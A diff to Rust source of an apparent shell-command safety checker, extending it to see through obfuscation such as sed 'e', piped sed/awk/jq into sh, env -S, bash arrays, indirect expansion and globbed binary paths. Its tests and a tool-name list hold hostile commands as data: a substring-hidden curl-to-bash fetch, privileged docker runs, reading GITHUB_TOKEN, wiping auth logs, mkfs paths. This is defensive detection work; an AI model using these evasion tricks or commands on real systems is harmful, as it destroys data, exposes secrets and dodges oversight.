@@ -521,6 +521,18 @@ fn collect_nested(seg: &Segment, nested: &mut Vec<(String, bool)>) {
             }
         }
     }
+    // sed's `e` command runs its text as a shell command (`sed 'e id'`,
+    // `sed '1e curl …'`).
+    if cmd == "sed" || cmd == "gsed" {
+        if let Some(script) = seg.args.iter().find(|a| !a.starts_with('-')) {
+            let t = script
+                .trim_start_matches(|c: char| c.is_ascii_digit() || c == '$')
+                .trim_start();
+            if let Some(c) = t.strip_prefix("e ") {
+                nested.push((c.to_string(), false));
+            }
+        }
+    }
     // A script handed over base64-encoded in an argument: cloud user data
     // (`--user-data`, `--metadata-from-file`), an environment value, a
     // container's command. It runs elsewhere, later; it is judged as if
@@ -1523,6 +1535,21 @@ fn stdin_program(seg: &Segment, body: &str) -> Option<String> {
 }
 
 fn collect_piped_literals(segs: &[Segment], nested: &mut Vec<(String, bool)>) {
+    // A text tool that writes commands into a shell (`… | sed 's/^/kubectl
+    // delete ns /' | sh`, `awk '{print "docker rm " $1}' | sh`): the
+    // command it prints, with `*` for what comes from its input.
+    for w in segs.windows(2) {
+        let (s, t) = (&w[0], &w[1]);
+        if s.sep == Sep::Pipe
+            && t.pipeline == s.pipeline
+            && is_shell(&t.cmd)
+            && t.operands().next().is_none()
+        {
+            if let Some(cmd) = generated_template(s) {
+                nested.push((cmd, false));
+            }
+        }
+    }
     let mut i = 0;
     while i < segs.len() {
         let s = &segs[i];
@@ -1575,6 +1602,60 @@ fn collect_piped_literals(segs: &[Segment], nested: &mut Vec<(String, bool)>) {
         }
         i += 1;
     }
+}
+
+/// The command line a `sed` substitution, an `awk` print or a `jq -r`
+/// string writes, with `*` where its input goes.
+fn generated_template(seg: &Segment) -> Option<String> {
+    let script = seg.args.iter().find(|a| !a.starts_with('-'))?;
+    let t = match seg.cmd.as_str() {
+        "sed" | "gsed" => {
+            let body = script.strip_prefix('s')?;
+            let d = body.chars().next()?;
+            let mut parts = body[d.len_utf8()..].split(d);
+            let _pat = parts.next()?;
+            let rep = parts.next()?;
+            // `&` and `\1`…`\9` are the matched input; other escapes
+            // stand for their character.
+            let mut out = String::with_capacity(rep.len());
+            let mut chars = rep.chars();
+            while let Some(c) = chars.next() {
+                match c {
+                    '&' => out.push('*'),
+                    '\\' => match chars.next() {
+                        Some(d) if d.is_ascii_digit() => out.push('*'),
+                        Some(d) => out.push(d),
+                        None => {}
+                    },
+                    c => out.push(c),
+                }
+            }
+            out
+        }
+        "awk" | "gawk" | "mawk" => {
+            let lits: Vec<&str> = script.split('"').skip(1).step_by(2).collect();
+            if !script.contains("print") || lits.is_empty() {
+                return None;
+            }
+            lits.join("*")
+        }
+        "jq" => {
+            let lits: Vec<&str> = script.split('"').skip(1).step_by(2).collect();
+            let l = lits.first()?;
+            let mut out = String::new();
+            let mut rest = *l;
+            while let Some(i) = rest.find("\\(") {
+                out.push_str(&rest[..i]);
+                out.push('*');
+                rest = rest[i..].split_once(')').map_or("", |x| x.1);
+            }
+            out.push_str(rest);
+            out
+        }
+        _ => return None,
+    };
+    let t = t.trim();
+    (t.contains(' ') && t.len() <= 1024).then(|| format!("{t} *"))
 }
 
 /// The manifest `kubectl|oc apply|create|replace -f -` reads from a
@@ -2021,6 +2102,13 @@ impl<'a> Lexer<'a> {
                 }
             }
         }
+        // `printf -v name FORMAT ARGS`: the formatted text goes into name.
+        if rest.len() >= 4 && rest[0] == "printf" && rest[1] == "-v" {
+            let v = printf(&rest[3..]);
+            if v.len() <= MAX_VAR_BYTES {
+                self.assign(rest[2].clone(), v, false);
+            }
+        }
         let mut sudo = false;
         let mut stripped_xargs = false;
         let mut xargs_slot: Option<String> = None;
@@ -2059,6 +2147,18 @@ impl<'a> Lexer<'a> {
                         && (a == "-i" || a == "-s" || a == "--login" || a == "--shell")
                     {
                         root_shell = true;
+                    }
+                    // `env -S 'cmd args'` splits the string into the command.
+                    if base == "env" && (a == "-S" || a == "--split-string") {
+                        if let Some(mut cmdline) = rest.get(j + 1).cloned() {
+                            for more in rest.iter().skip(j + 2) {
+                                cmdline.push(' ');
+                                cmdline.push_str(more);
+                            }
+                            rest = vec!["sh".to_string(), "-c".to_string(), cmdline];
+                            j = rest.len();
+                            break;
+                        }
                     }
                     if base == "sudo" && (a == "-e" || a == "--edit") {
                         // `sudo -e FILE` is sudoedit: FILE is what it
@@ -2384,8 +2484,23 @@ impl<'a> Lexer<'a> {
         while let Some(c) = self.peek() {
             match c {
                 b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b')' => break,
+                b'(' if w.text.ends_with('=') && !w.quoted && assignment(&w.text).is_some() => {
+                    // `name=(a b c)`: an array, kept as its items joined by
+                    // spaces (`${name[@]}` gives them back as words).
+                    self.i += 1;
+                    let inner = self.skip_balanced(b'(', b')');
+                    let items: Vec<String> = split_unquoted(&inner, |b| b.is_ascii_whitespace())
+                        .unwrap_or_default()
+                        .into_iter()
+                        .filter(|i| !i.is_empty())
+                        .map(unquote)
+                        .collect();
+                    mark(&mut w, 2);
+                    w.quoted = true;
+                    w.text.push_str(&items.join(" "));
+                }
                 b'(' => {
-                    // `name()` function definition or an `=(` array: stop the word.
+                    // `name()` function definition: stop the word.
                     break;
                 }
                 b'<' | b'>' if self.peek_at(1) == Some(b'(') => {
@@ -2573,7 +2688,9 @@ impl<'a> Lexer<'a> {
                 self.i += 1;
                 let inner = self.skip_balanced(b'{', b'}');
                 let v = self.param_expand(&inner);
-                self.push_expansion(w, &v, in_dquote, &inner);
+                // `"${arr[@]}"` is one word per item, quoted or not.
+                let quoted = in_dquote && !inner.ends_with("[@]");
+                self.push_expansion(w, &v, quoted, &inner);
             }
             Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
                 let st = self.i;
@@ -2684,10 +2801,20 @@ impl<'a> Lexer<'a> {
             .cloned()
             .or_else(|| (name == "IFS").then(|| " ".to_string()));
         if name.is_empty() {
+            // `${!name}`: the variable named by name's value.
+            if let Some(r) = inner.strip_prefix('!') {
+                if let Some(target) = self.vars.get(r) {
+                    return self
+                        .vars
+                        .get(target)
+                        .cloned()
+                        .unwrap_or_else(|| format!("${target}"));
+                }
+            }
             return format!("${{{inner}}}");
         }
         if let Some(v) = known {
-            return v;
+            return value_op(&v, rest).unwrap_or(v);
         }
         // `${NAME:?}`: the shell stops if NAME is unset; kept as written,
         // so a guarded `rm -rf "${DIR:?}"/*` reads as guarded.
@@ -2706,6 +2833,79 @@ impl<'a> Lexer<'a> {
         }
         format!("${name}")
     }
+}
+
+/// What an expansion's operator makes of a known value: `:off[:len]`
+/// substrings, `/pat/rep` and `//pat/rep` replacements, `#`/`%` removal
+/// of a literal prefix or suffix, `[n]`, `[@]` and `[*]` of an array (its
+/// items joined by spaces). None for what is not modelled (globs in a
+/// pattern), so the whole value stands.
+fn value_op(v: &str, op: &str) -> Option<String> {
+    if op.is_empty() || op == "[@]" || op == "[*]" {
+        return None;
+    }
+    if let Some(ix) = op.strip_prefix('[').and_then(|r| r.strip_suffix(']')) {
+        let n: usize = ix.trim().parse().ok()?;
+        return v.split(' ').nth(n).map(str::to_string);
+    }
+    let literal = |p: &str| !p.is_empty() && !p.contains(['*', '?', '[']);
+    if let Some(r) = op.strip_prefix(':') {
+        let (off, len) = match r.split_once(':') {
+            Some((o, l)) => (o, Some(l)),
+            None => (r, None),
+        };
+        let chars: Vec<char> = v.chars().collect();
+        let off: i64 = off.trim().parse().ok()?;
+        let start = if off < 0 {
+            chars.len().saturating_sub(off.unsigned_abs() as usize)
+        } else {
+            (off as usize).min(chars.len())
+        };
+        let end = match len {
+            Some(l) => {
+                let l: i64 = l.trim().parse().ok()?;
+                if l < 0 {
+                    chars
+                        .len()
+                        .saturating_sub(l.unsigned_abs() as usize)
+                        .max(start)
+                } else {
+                    (start + l as usize).min(chars.len())
+                }
+            }
+            None => chars.len(),
+        };
+        return Some(chars[start..end].iter().collect());
+    }
+    if let Some(r) = op.strip_prefix('/') {
+        let (all, r) = match r.strip_prefix('/') {
+            Some(r) => (true, r),
+            None => (false, r),
+        };
+        let (pat, rep) = r.split_once('/').unwrap_or((r, ""));
+        if !literal(pat) {
+            return None;
+        }
+        return Some(if all {
+            v.replace(pat, rep)
+        } else {
+            v.replacen(pat, rep, 1)
+        });
+    }
+    for (op_s, prefix) in [("##", true), ("#", true), ("%%", false), ("%", false)] {
+        if let Some(pat) = op.strip_prefix(op_s) {
+            if !literal(pat) {
+                return None;
+            }
+            let cut = if prefix {
+                v.strip_prefix(pat)
+            } else {
+                v.strip_suffix(pat)
+            };
+            return Some(cut.unwrap_or(v).to_string());
+        }
+    }
+    None
 }
 
 /// What a substitution prints when it is only a literal run through
@@ -2902,7 +3102,120 @@ fn resolve_glob(word: &str) -> Option<String> {
             return Some(out);
         }
     }
-    None
+    bin_glob(word).or_else(|| top_dir_glob(word))
+}
+
+/// A glob for a top-level directory with a literal rest (`/d?v/nvme0n1` →
+/// `/dev/nvme0n1`), when exactly one fits and the glob names a letter.
+fn top_dir_glob(word: &str) -> Option<String> {
+    const TOP: &[&str] = &[
+        "dev", "etc", "bin", "sbin", "usr", "home", "root", "var", "proc", "sys", "boot", "Users",
+    ];
+    let rest = word.strip_prefix('/')?;
+    let (first, tail) = rest.split_once('/')?;
+    if tail.contains(['?', '*', '['])
+        || !first.contains(['?', '*', '['])
+        || !first.bytes().any(|c| c.is_ascii_alphabetic())
+    {
+        return None;
+    }
+    let mut fits = TOP
+        .iter()
+        .filter(|t| glob_component(first.as_bytes(), t.as_bytes()));
+    let t = fits.next()?;
+    if fits.next().is_some() {
+        return None;
+    }
+    Some(format!("/{t}/{tail}"))
+}
+
+/// Where programs live, and the programs a glob in a command is matched
+/// against (`/s?in/mk?s.e?t4` → `/sbin/mkfs.ext4`): the destructive, network
+/// and interpreter tools the checks know by name.
+const BIN_DIRS: &[&str] = &["/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin"];
+const BIN_NAMES: &str = super::text::joined![
+    "rm",
+    "dd",
+    "shred",
+    "wipefs",
+    "mkfs",
+    "mkfs.ext4",
+    "mkfs.xfs",
+    "mkfs.btrfs",
+    "mkfs.vfat",
+    "fdisk",
+    "parted",
+    "sgdisk",
+    "curl",
+    "wget",
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "telnet",
+    "ssh",
+    "scp",
+    "bash",
+    "sh",
+    "zsh",
+    "dash",
+    "ksh",
+    "python",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "node",
+    "base64",
+    "xxd",
+    "openssl",
+    "chmod",
+    "chown",
+    "chattr",
+    "useradd",
+    "usermod",
+    "passwd",
+    "crontab",
+    "systemctl",
+    "iptables",
+    "nft",
+    "ufw",
+    "kill",
+    "pkill",
+    "killall",
+    "shutdown",
+    "reboot",
+    "insmod",
+    "setenforce",
+    "tcpdump",
+    "nmap",
+];
+
+/// A glob for a program in one of `BIN_DIRS`, resolved when exactly one
+/// known name fits and the glob names at least one letter of it.
+fn bin_glob(word: &str) -> Option<String> {
+    let (dir, name) = word.rsplit_once('/')?;
+    if !name.bytes().any(|c| c.is_ascii_alphabetic())
+        || name.bytes().filter(|&c| c == b'*').count() > 2
+    {
+        return None;
+    }
+    let dparts: Vec<&str> = dir.split('/').collect();
+    let d = BIN_DIRS.iter().find(|d| {
+        let k: Vec<&str> = d.split('/').collect();
+        k.len() == dparts.len()
+            && k.iter()
+                .zip(&dparts)
+                .all(|(k, p)| glob_component(p.as_bytes(), k.as_bytes()))
+    })?;
+    let mut fits = BIN_NAMES
+        .lines()
+        .filter(|n| glob_component(name.as_bytes(), n.as_bytes()));
+    let n = fits.next()?;
+    if fits.next().is_some() {
+        return None;
+    }
+    Some(format!("{d}/{n}"))
 }
 
 /// Splits `s` at the bytes `at` accepts outside quotes; `None` when a
@@ -3105,6 +3418,35 @@ mod tests {
             cmds("rm -rf \"${BUILD_DIR:?}\"/*"),
             vec!["rm -rf ${BUILD_DIR:?}/*"]
         );
+    }
+
+    #[test]
+    fn arrays_substrings_indirection_and_printf_v() {
+        let all = |s: &str| cmds(s).join(" ; ");
+        assert!(all("o=(--privileged --pid=host); docker run \"${o[@]}\" x")
+            .contains("docker run --privileged --pid=host x"));
+        assert!(all("o=(a b c); echo ${o[1]}").contains("echo b"));
+        assert!(
+            all("s=xcurlybash; ${s:1:4} -s http://e/p | ${s:6:4}").contains("curl -s http://e/p")
+        );
+        assert!(all("f=a.jpeg; mv $f ${f//.jpeg/.jpg}").contains("mv a.jpeg a.jpg"));
+        assert!(all("p=/srv/app/x; echo ${p#/srv/} ${p%/x}").contains("echo app/x /srv/app"));
+        assert!(all("k=GITHUB_TOKEN; echo \"${!k}\"").contains("echo $GITHUB_TOKEN"));
+        assert!(
+            all("printf -v f '/var/log/%s' auth.log; truncate -s 0 \"$f\"")
+                .contains("truncate -s 0 /var/log/auth.log")
+        );
+        assert!(all("env -S 'bash -c id'").contains("bash -c id"));
+        assert!(all("echo | sed 'e id -u'").contains("id -u"));
+        assert_eq!(
+            resolve_glob("/s?in/mk?s.e?t4").as_deref(),
+            Some("/sbin/mkfs.ext4")
+        );
+        assert_eq!(
+            resolve_glob("/d?v/nvme0n1").as_deref(),
+            Some("/dev/nvme0n1")
+        );
+        assert_eq!(resolve_glob("/usr/bin/*"), None);
     }
 
     #[test]
